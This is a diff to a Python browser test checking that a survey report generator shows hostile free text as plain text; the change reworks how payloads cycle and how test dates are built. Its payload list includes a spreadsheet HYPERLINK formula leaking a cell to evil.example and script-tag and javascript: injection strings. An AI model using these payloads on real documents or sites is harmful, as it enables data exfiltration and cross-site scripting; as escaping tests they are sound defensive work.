@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import json
 import shutil
-from itertools import count
+from itertools import count, cycle
 from pathlib import Path
 from urllib.parse import urlsplit
 from xml.etree import ElementTree
@@ -93,13 +93,12 @@ PAYLOADS = [
     '=HYPERLINK("https://evil.example/?x="&A1,"x")',
     "$$\\href{javascript:window.__hit=1}{x}$$",
 ]
-BATCHES = 4
 HOSTILE_URL = "https://evil.example/'><script>window.__hit=1</script>?javascript:window.__hit=1"
 
 
 def hostile_survey(folder: Path, payloads: list[str]) -> None:
     """A survey whose every free text is one of the payloads, each used at least once."""
-    turn = iter(payloads * 10)
+    turn = cycle(payloads)
 
     def text() -> str:
         return (
@@ -125,16 +124,17 @@ def hostile_survey(folder: Path, payloads: list[str]) -> None:
     with (folder / "toplines.csv").open("w", encoding="utf-8", newline="") as file:
         rows = csv.DictWriter(file, COLUMNS)
         rows.writeheader()
-        for month in range(1, 9):
+        for number in range(40):
+            year, month = 2021 + number // 12, number % 12 + 1
             rows.writerow(
                 {
                     "indicator": "mood",
-                    "variant": ("one", "two")[month % 2],
-                    "house": ("one", "two")[month % 2],
+                    "variant": ("one", "two")[number % 2],
+                    "house": ("one", "two")[number % 2],
                     "category": "yes",
-                    "share": f"0.4{month}",
-                    "start": f"2024-0{month}-01",
-                    "end": f"2024-0{month}-03",
+                    "share": f"0.4{number % 10}",
+                    "start": f"{year}-{month:02}-01",
+                    "end": f"{year}-{month:02}-03",
                     "precision": "day",
                     "n": 1000,
                     "source_title": next(turn),
@@ -144,10 +144,9 @@ def hostile_survey(folder: Path, payloads: list[str]) -> None:
             )
 
 
-@pytest.mark.parametrize("batch", range(BATCHES))
-def test_hostile_text_is_text(browser: Browser, repository: Path, tmp_path: Path, batch: int) -> None:
+def test_hostile_text_is_text(browser: Browser, repository: Path, tmp_path: Path) -> None:
     shutil.copytree(repository / "notebooks", tmp_path / "notebooks")
-    mine = [payload.replace("\t", " ") for payload in PAYLOADS[batch::BATCHES]]
+    mine = [payload.replace("\t", " ") for payload in PAYLOADS]
     hostile_survey(tmp_path / "surveys" / "hostile", mine)
     folder = make_report(tmp_path, "hostile", "--as-of", "2024-12-31")
     seen = show(browser, folder / "index.html")
